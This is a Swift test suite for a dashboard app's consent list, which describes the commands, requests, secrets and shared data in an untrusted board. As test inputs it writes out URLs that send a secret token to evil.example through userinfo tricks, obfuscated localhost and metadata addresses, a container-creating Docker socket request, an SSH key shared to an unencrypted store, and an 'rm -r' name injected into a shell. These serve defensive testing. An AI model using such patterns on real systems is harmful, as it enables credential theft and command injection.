import Settings
import Testing

@testable import Boards

/// The effects of a board that need consent.
@Suite(.timeLimit(.minutes(5)))
struct ConsentTests {

    private static let variables = ["HOME": "/home/me", "KEY": "value", "NAS": "http://10.0.0.5", "HOST": "db.example"]

    /// The texts of a kind that a stranger's board needs consent for.
    static func texts(_ kind: ConsentItem.Kind, of text: String) throws -> [String] {
        let (board, problems) = readBoard(text, environment: variables)
        #expect(problems.isEmpty, "\(problems)")
        return try #require(board).consentOfStranger.items.filter { $0.kind == kind }.map(\.text)
    }

    private static func all(of text: String) throws -> ConsentList {
        let (board, problems) = readBoard(text, environment: variables)
        #expect(problems.isEmpty, "\(problems)")
        return try #require(board).consentOfStranger
    }

    // MARK: Nothing

    @Test("A board that only reads public hosts and files of this machine needs no consent")
    func harmless() throws {
        let list = try Self.all(
            of: """
                sources:
                  a: { http: "https://me:word@Host.Example:8080/x?y", headers: { Accept: text/json }, ca: ca.pem }
                  b: { file: ~/.ssh/config, alert: { failed: 1, bell: true, title: hello } }
                  c: { http: "http://127.0.0.1.nip.io/", method: HEAD, expect: [200, 404], measure: seconds }
                  d: { http: "https://8.8.8.8/", select: ".a", parse: json }
                """)
        #expect(list.isEmpty)
    }

    @Test("A board of the user's own files needs no consent, whatever it does")
    func own() throws {
        let text = "sources: { a: { command: ls }, b: { http: \"http://localhost/\", method: POST } }"
        let board = try #require(readBoard(text).board)
        #expect(board.consent.isEmpty)
        #expect(!board.consentOfStranger.isEmpty)
    }

    // MARK: Commands

    @Test(
        "A command is shown as it runs: with its variables, host, folder and shell",
        arguments: [
            ("command: df -h /", "source: df -h /"),
            ("command: [df, -h, /]", "source (no shell): df -h /"),
            ("command: [ls, \"a b\", it's, '']", #"source (no shell): ls 'a b' 'it'\''s' ''"#),
            ("command: [df], env: { PATH: evil-folder }", "source (no shell) PATH=evil-folder: df"),
            ("command: ./st.sh, folder: evil", "source in ./evil: ./st.sh"),
            ("command: make, folder: ~/x y", "source in ~/'x y': make"),
            ("command: make, folder: /srv/x", "source in /srv/x: make"),
            ("command: uptime, on: me@far", "source on me@far: uptime"),
            ("command: uptime, on: me@fаr", #"source on 'me@f\u{430}r': uptime"#),
            (#"command: uptime, on: "me@f\\u{430}r""#, #"source on 'me@f\u{5C}u{430}r': uptime"#),
            ("command: top, pty: true", "source in a terminal: top"),
            (
                "command: [ls], on: me@far, folder: ../x, pty: true, env: { B: \"b: c\", A: '$(x)' }",
                "source (no shell) in a terminal A='$(x)' B='b: c' on me@far in ./../x: ls"
            ),
            ("command: \"cat ${board.dir}/x ${env.KEY}\"", "source: cat ${board.dir}/x ${env.KEY}"),
            ("command: [cat, \"${env.KEY} x\"]", "source (no shell): cat ${env.KEY}' x'"),
            ("command: \"on me@far: uptime\"", "source: on me@far: uptime"),
            ("command: \"a\\tb\\nc\\u200Bd\"", "source: a\tb\nc\u{200B}d"),
        ])
    func commands(settings: String, text: String) throws {
        #expect(try Self.texts(.command, of: "sources: { a: { \(settings) } }") == [text])
    }

    @Test("Commands of keys, alerts and secrets are shown with their triggers")
    func otherCommands() throws {
        let texts = try Self.texts(
            .command,
            of: """
                secrets: { tok: { command: pass x }, f: { file: /f } }
                sources: { a: { file: /b, alert: [ { failed: 1, run: say }, { stale: 1h, run: say } ] } }
                keys:
                  x: { run: go, confirm: true }
                  y: { run: stop $unit, on: a }
                  z: { run: view, detach: true }
                """)
        #expect(
            texts == [
                "key x (asks first): go", "key y of a (gets file /b): stop $unit",
                "key z (keeps running when the board ends): view",
                "alert (gets file /b): say", "secret tok: pass x",
            ])
    }

    @Test(
        "A command of a key or an alert is shown with its content, unless a public server gives that to everyone",
        arguments: [
            ("http: \"https://a.example/x\"", nil), ("http: \"https://a.example/x\", headers: { Accept: b/c }", nil),
            ("file: ~/.ssh/id_rsa", "file ~/.ssh/id_rsa"), ("file: x y", "file ./'x y'"),
            ("command: 'cat x; y'", "output of 'cat x; y'"), ("command: [cat, x]", "output of 'cat x'"),
            ("command: ls, on: me@far", "output of ls on me@far"),
            ("http: \"http://nas/x\"", "response of http://nas/x"),
            ("http: \"http://d/x\", unix: /d.sock", "response of http://d/x"),
            ("http: \"https://a.example/\", method: POST", "response of https://a.example/"),
            ("http: \"https://a.example/?${secret.t}\"", "response of 'https://a.example/?${secret.t}'"),
            ("http: \"https://a.example/\", headers: { X: \"${env.KEY}\" }", "response of https://a.example/"),
        ])
    func contents(settings: String, content: String?) throws {
        let text = """
            secrets: { t: { env: KEY } }
            sources: { a: { \(settings), alert: { failed: 1, run: say } } }
            keys: { x: { run: go, on: a } }
            """
        let gets = content.map { " (gets \($0))" } ?? ""
        let texts = try Self.texts(.command, of: text).filter { !$0.hasPrefix("source") }
        #expect(texts == ["key x of a\(gets): go", "alert\(gets): say"])
    }

    // MARK: Requests

    @Test(
        "A request other than GET or HEAD to a public host is shown in full",
        arguments: [
            ("http: \"https://a.example/x\", method: POST", "POST https://a.example/x"),
            ("http: \"https://a.example/x\", method: DELETE", "DELETE https://a.example/x"),
            ("http: \"https://a.example/x\", method: OPTIONS", "OPTIONS https://a.example/x"),
            ("http: \"https://a.example/x\", body: hello", "GET https://a.example/x\n\nhello"),
            (
                "http: \"https://a.example/x\", headers: { X-HTTP-Method-Override: DELETE }",
                "GET https://a.example/x\nX-HTTP-Method-Override: DELETE"
            ),
            (
                "http: \"https://a.example/x\", headers: { X_HTTP_Method: DELETE }",
                "GET https://a.example/x\nX_HTTP_Method: DELETE"
            ),
            (
                "http: \"https://a.example/\", method: PUT, headers: { Content-Type: a/b, X: \"${env.KEY}\" }, body: \"a\\nb\"",
                "PUT https://a.example/\nContent-Type: a/b\nX: ${env.KEY}\n\na\nb"
            ),
            (
                "http: \"http://d/containers/create?x=1\", unix: /var/run/docker.sock, method: POST, body: '{}'",
                "POST to /var/run/docker.sock: /containers/create?x=1 (http://d)\n\n{}"
            ),
            ("http: \"http://localhost\", unix: x.sock", "GET to ./x.sock: / (http://localhost)"),
            ("http: \"http://localhost/x\"", "GET http://localhost/x (this machine)"),
            ("http: \"http://127.1:8080/x\"", "GET http://127.1:8080/x (this machine)"),
            ("http: \"http://0x7f.1/\"", "GET http://0x7f.1/ (this machine)"),
            ("http: \"http://2130706433/\"", "GET http://2130706433/ (this machine)"),
            ("http: \"http://[::ffff:127.0.0.1]/\"", "GET http://[::ffff:127.0.0.1]/ (this machine)"),
            ("http: \"http://%6cocalhost/\"", "GET http://%6cocalhost/ (this machine)"),
            ("http: \"http://LOCALHOST./\"", "GET http://LOCALHOST./ (this machine)"),
            (
                "http: \"http://a.example@localhost/\"",
                "GET http://a.example@localhost/ (to http://localhost, this machine)"
            ),
            (
                "http: \"https://a.example:443@evil.example/x\", method: POST",
                "POST https://a.example:443@evil.example/x (to https://evil.example)"
            ),
            ("http: \"https://аpi.example/é\", method: POST", #"POST https://\u{430}pi.example/é"#),
            ("http: \"http://d:é@docker/\", unix: /x.sock", #"GET to /x.sock: / (http://d:\u{E9}@docker)"#),
            ("http: \"http://169.254.169.254/meta\"", "GET http://169.254.169.254/meta (the local link)"),
            ("http: \"http://nas/x\", method: HEAD", "HEAD http://nas/x (a private network)"),
            ("http: \"${env.NAS}/x\"", "GET ${env.NAS}/x (a private network)"),
            (
                "http: \"https://nas.lan/x\", ca: ca.pem",
                "GET https://nas.lan/x (a private network, certificates of ./ca.pem)"
            ),
            (
                #"http: "http://a.example\\@localhost/""#,
                #"GET http://a.example\u{5C}@localhost/ (an unknown host)"#
            ),
            ("http: \"http://a.example@b@c.example/\"", "GET http://a.example@b@c.example/ (an unknown host)"),
            ("http: \"http://a.example:80:90/\"", "GET http://a.example:80:90/ (an unknown host)"),
        ])
    func requests(settings: String, text: String) throws {
        #expect(try Self.texts(.request, of: "sources: { a: { \(settings) } }") == [text])
    }

    @Test("A host that depends on a secret is unknown, since it is not resolved yet")
    func secretHost() throws {
        let text = "secrets: { s: { env: KEY } }\nsources: { a: { http: \"https://${secret.s}.example/\" } }"
        #expect(try Self.texts(.request, of: text) == ["GET https://${secret.s}.example/ (an unknown host)"])
        #expect(
            try Self.texts(.secret, of: text) == ["s from variable KEY → https://${secret.s}.example/, in the URL"])
    }

    @Test(
        "A variable in a title, a name or a filter is shown, since commands receive these texts",
        arguments: [
            "sources: { a: { file: /x, select: '$env.KEY' } }",
            "sources: { a: { file: /x, title: 'x ${env.KEY}' } }",
            "sources: { a: { file: /x, alert: { when: '$env.KEY == .', run: say } } }",
            "sources: { a: { file: /x, parse: { columns: [a, '${env.KEY}'] } } }",
            "sources: { a: { file: /x, parse: { regex: '(?<a>${env.KEY})' } } }",
            "sources: { a: { file: /x } }\npages: [{ rows: [[a: { title: '${env.KEY}' }]] }]",
            "sources: { a: { file: /x, share: 'as ${env.KEY}' } }",
        ])
    func shownVariables(text: String) throws {
        #expect(try Self.texts(.secret, of: text) == ["variable KEY → titles, names and filters of the board"])
    }

    // MARK: Secrets

    @Test(
        "A secret is shown with its origin, its destination, and its use",
        arguments: [
            (
                "http: \"https://api.example/x\", headers: { Authorization: \"Bearer ${secret.t}\" }",
                ["t from variable KEY → https://api.example, header Authorization"]
            ),
            (
                "http: \"https://api.example/x?t=${secret.t}\"",
                ["t from variable KEY → https://api.example, in the URL"]
            ),
            (
                "http: \"http://api.example:81/x?t=${secret.t}\"",
                ["t from variable KEY → http://api.example:81 (not encrypted), in the URL"]
            ),
            (
                "http: \"https://api.example@evil.example/?t=${secret.t}\"",
                ["t from variable KEY → https://evil.example, in the URL"]
            ),
            (
                "http: \"https://api.example/\", headers: { Host: evil.example, X: \"${secret.t}\" }, ca: x.pem",
                ["t from variable KEY → https://api.example (as host evil.example, certificates of ./x.pem), header X"]
            ),
            (
                "http: \"https://аpi.example/?${secret.t}\"",
                [#"t from variable KEY → https://\u{430}pi.example, in the URL"#]
            ),
            (
                "http: \"https://api.example/\", body: \"${secret.t}${env.KEY}\", method: POST",
                [
                    "t from variable KEY → https://api.example, in the body",
                    "variable KEY → https://api.example, in the body",
                ]
            ),
            (
                "http: \"http://docker/\", unix: /x.sock, headers: { X: \"${secret.t}\" }",
                ["t from variable KEY → /x.sock, header X"]
            ),
            (
                "command: [gh, pr], env: { TOKEN: \"${secret.t}\" }",
                ["t from variable KEY → command of a, variable TOKEN"]
            ),
            (
                "command: [gh, pr], on: me@far, env: { TOKEN: \"${secret.t}\" }",
                ["t from variable KEY → command of a on me@far, variable TOKEN"]
            ),
            ("command: \"echo ${env.KEY}\"", ["variable KEY → command of a, in the line"]),
            ("http: \"https://a.example/?${board.dir}\"", ["path of the board → https://a.example, in the URL"]),
            (
                "http: \"https://a.example/\", headers: { X: \"${board.dir}/x\" }",
                ["path of the board → https://a.example, header X"]
            ),
            (
                "http: \"http://a.example/\", method: POST, body: \"x${board.dir}\"",
                ["path of the board → http://a.example (not encrypted), in the body"]
            ),
            ("command: \"ls ${board.dir}\", env: { A: \"${board.dir}\" }, folder: x", []),
            ("file: \"${board.dir}/x\"", []),
            (
                "command: x, on: \"${env.HOST}\"",
                ["variable HOST → command of a on ${env.HOST}, in the name of the host"]
            ),
        ])
    func secrets(settings: String, expected: [String]) throws {
        let texts = try Self.texts(.secret, of: "secrets: { t: { env: KEY } }\nsources: { a: { \(settings) } }")
        #expect(texts.filter { !$0.hasSuffix("not used") } == expected)
    }

    @Test("Files and commands of secrets are shown, and so are unused secrets")
    func origins() throws {
        let text = """
            secrets: { a: { file: ~/.netrc }, b: { file: b.txt }, c: { command: pass c }, "d → x": { env: PATH } }
            sources: { s: { http: "https://x.example/${secret.a}${secret.b}${secret.c}" } }
            """
        #expect(
            try Self.texts(.secret, of: text) == [
                "a from file ~/.netrc → https://x.example, in the URL",
                "b from file ./b.txt → https://x.example, in the URL",
                "c from its command → https://x.example, in the URL",
                "'d → x' from variable PATH, not used",
            ])
    }

    // MARK: Store

    @Test("Files and commands shared through a store are shown with the address of the store")
    func sharing() throws {
        let text = """
            share: redis://:word@Cache.example
            secrets: { t: { env: KEY } }
            sources:
              public: { http: "https://a.example/" }
              key: { file: ~/.ssh/id_rsa, share: as me }
              hosts: { file: "/etc/the hosts", share: true }
              own: { file: /x }
              disk: { command: [df, -h], share: true }
              local: { http: "http://nas/x", share: true }
              team: { http: "https://a.example/", headers: { X: "${secret.t}" }, share: as team one }
            """
        #expect(
            try Self.texts(.sharing, of: text) == [
                "redis://Cache.example:6379 (not encrypted)\(Self.published)",
                "redis://Cache.example:6379 (not encrypted): as me, file ~/.ssh/id_rsa",
                "redis://Cache.example:6379 (not encrypted): file '/etc/the hosts'",
                "redis://Cache.example:6379 (not encrypted): output of: df -h",
                "redis://Cache.example:6379 (not encrypted): response of http://nas/x",
                "redis://Cache.example:6379 (not encrypted): as 'team one', response of https://a.example/",
            ])
    }

    @Test("The key of a store signs contents, and does not encrypt them", arguments: ["", ", key: 0123456789abcdef"])
    func signedStore(key: String) throws {
        let text = "share: { store: 'redis://h'\(key) }\nsources: { a: { file: /x } }"
        #expect(try Self.texts(.sharing, of: text) == ["redis://h:6379 (not encrypted)\(Self.published)"])
    }

    @Test("The pages of a request that needs consent are shown with the request")
    func pages() throws {
        func texts(_ paging: String) throws -> [String] {
            let request = "http: 'https://pay.example/x', method: POST, body: b"
            return try Self.texts(.request, of: "sources: { a: { \(request), paging: { \(paging) } } }")
        }
        let request = "POST https://pay.example/x\n\nb"
        #expect(
            try texts("parameter: page, first: 1") == [
                request, "pages by 'page from 1 by 1, 1 at once, up to 1000 items' of \(request)",
            ])
        #expect(
            try texts("parameter: page, first: 9").last
                == "pages by 'page from 9 by 1, 1 at once, up to 1000 items' of \(request)")
        #expect(try texts("link: .next").last == "pages by 'link .next, 1 at once, up to 1000 items' of \(request)")
        #expect(
            try Self.texts(.request, of: "sources: { a: { http: 'https://a.example/', paging: { link: .next } } }")
                == [])
    }

    @Test(
        "The name of a source is shown if the command of an alert uses it",
        arguments: [("sh -c \"$SOURCE\"", true), ("echo ${SOURCE}", true), ("echo $VALUE", false)])
    func namedSource(command: String, isShown: Bool) throws {
        let text = "sources: { 'rm -r': { file: /x, alert: { failed: 1, run: '\(command)' } } }"
        let line = "name 'rm -r' → command of an alert of 'rm -r'"
        #expect(try Self.texts(.content, of: text) == (isShown ? [line] : []))
    }

    @Test(
        "Content that was got with credentials in the file is not the same for everyone",
        arguments: [
            ("https://a.example/x", "X-Api-Key: k", true), ("https://a.example/x?key=k", "", true),
            ("https://me:p@a.example/x", "", true), ("https://a.example/x?page=2", "X-Trace: k", false),
            ("https://a.example/x?api%5Fkey=k", "", true), ("https://a.example/x;token=k", "", true),
            ("https://a.example/x?PHPSESSID=k", "", true), ("https://a.example/x", "X-Session-Id: k", true),
            ("https://a.example/x", "DOLAPIKEY: k", true), ("https://a.example/token", "", false),
        ])
    func credentials(url: String, header: String, isNamed: Bool) throws {
        let text = """
            share: redis://h
            sources: { a: { http: "\(url)", headers: { \(header) }, alert: { failed: 1, run: 'echo $VALUE' } } }
            """
        let items = try Self.all(of: text).items.map(\.text)
        #expect(items.contains { $0.hasPrefix("alert (gets response of ") } == isNamed)
        let board = try #require(readBoard(text).board)
        if case .described = board.sources[0].sharing { #expect(!isNamed) } else { #expect(isNamed) }
    }

    @Test("A host of the store that depends on a secret is unknown")
    func secretStore() throws {
        let text = """
            share: { store: "redis://cache${secret.s}.example" }
            secrets: { s: { file: s } }
            sources: { a: { file: /x } }
            """
        let place = "redis://cache${secret.s}.example (not encrypted)"
        #expect(
            try Self.all(of: text).items.map(\.text) == [
                "s from file ./s → \(place), in the address", "\(place)\(Self.published)",
            ])
        // A password is not part of the host.
        let other = text.replacing("cache${secret.s}", with: ":${secret.s}@cache")
        #expect(try Self.texts(.sharing, of: other) == ["redis://cache.example:6379 (not encrypted)\(Self.published)"])
    }

    @Test("The name of a board in the store is shown with its variables")
    func storeName() throws {
        let text = """
            share: { store: "redis://h", name: "${env.KEY} x${board.dir}" }
            sources: { a: { file: /x } }
            """
        #expect(
            try Self.all(of: text).items.map(\.text) == [
                "variable KEY → redis://h:6379 (not encrypted), as the name of this board",
                "path of the board → redis://h:6379 (not encrypted), as the name of this board",
                "variable KEY → titles, names and filters of the board",
                "redis://h:6379 (not encrypted): responses of public servers, under the name ${env.KEY}' x'${board.dir}",
            ])
    }

    /// The end of the item about a store whose board has no name.
    private static let published = ": responses of public servers, under the names of you and this machine"

    @Test("Secrets of the store are shown with their use")
    func storeSecrets() throws {
        let text = """
            share: { store: "redis://${env.HOST}:1", password: "${secret.p}", key: "${secret.k}" }
            secrets: { p: { env: P }, k: { file: /k } }
            sources: { a: { file: /x } }
            """
        #expect(
            try Self.texts(.secret, of: text) == [
                "variable HOST → redis://db.example:1 (not encrypted), in the address",
                "p from variable P → redis://db.example:1 (not encrypted), as the password",
                "k from file /k → redis://db.example:1 (not encrypted), as the key, which is not sent",
            ])
        #expect(try Self.texts(.sharing, of: text) == ["redis://db.example:1 (not encrypted)\(Self.published)"])
    }

    @Test("The sources of a recipe are shown with their parameters inserted")
    func recipe() throws {
        let files = [
            "board.yaml": "sources: { a: { use: r, with: { host: nas, word: x y } } }",
            "recipes/r.yaml": """
            parameters: { host: { required: true }, word: {} }
            source: { command: [ssh, "${parameter.host}", "${parameter.word}"] }
            """,
        ]
        let board = try #require(readBoard(files).board)
        #expect(board.consentOfStranger.items.map(\.text) == ["source (no shell): ssh nas 'x y'"])
    }

    // MARK: Lists

    @Test("Consent items are equal only if their bytes are")
    func bytes() {
        let composed = ConsentItem(.command, "./caf\u{E9}")
        let decomposed = ConsentItem(.command, "./cafe\u{301}")
        #expect(composed != decomposed)
        #expect(ConsentList([composed]).subtracting(ConsentList([decomposed])).items == [composed])
        #expect(ConsentItem(.command, "x") != ConsentItem(.request, "x"))
        #expect(ConsentList([composed, composed]).items.count == 1)
    }
}

extension BoardSettings {

    /// The consent items of the board if it is foreign.
    var consentOfStranger: ConsentList {
        var board = self
        board.foreignFiles = Set(files)
        return board.consent
    }
}
